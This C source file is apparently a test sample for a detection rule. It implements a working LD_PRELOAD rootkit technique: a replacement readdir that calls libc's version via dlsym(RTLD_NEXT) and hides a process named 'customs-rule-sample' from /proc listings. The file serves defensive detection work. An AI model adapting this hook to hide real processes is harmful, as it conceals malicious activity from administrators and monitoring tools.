// Sample for rootkit-ld-preload-readdir: the shape of an LD_PRELOAD process hider (a readdir
// replacement that reaches libc's through dlsym(RTLD_NEXT) and skips one /proc entry). It
// hides only a process named "customs-rule-sample" and the tests never load it.
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *hidden = "customs-rule-sample";

static int in_proc(DIR *dir) {
  char link[64], target[256];
  snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(dir));
  ssize_t n = readlink(link, target, sizeof target - 1);
  if (n < 0) return 0;
  target[n] = 0;
  return strcmp(target, "/proc") == 0;
}

static int is_hidden(const char *pid) {
  char path[256], comm[256] = {0};
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  FILE *f = fopen(path, "r");
  if (!f) return 0;
  if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
  fclose(f);
  comm[strcspn(comm, "\n")] = 0;
  return strcmp(comm, hidden) == 0;
}

struct dirent *readdir(DIR *dir) {
  static struct dirent *(*real)(DIR *);
  if (!real) real = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  while ((e = real(dir)) && in_proc(dir) && is_hidden(e->d_name)) {
  }
  return e;
}
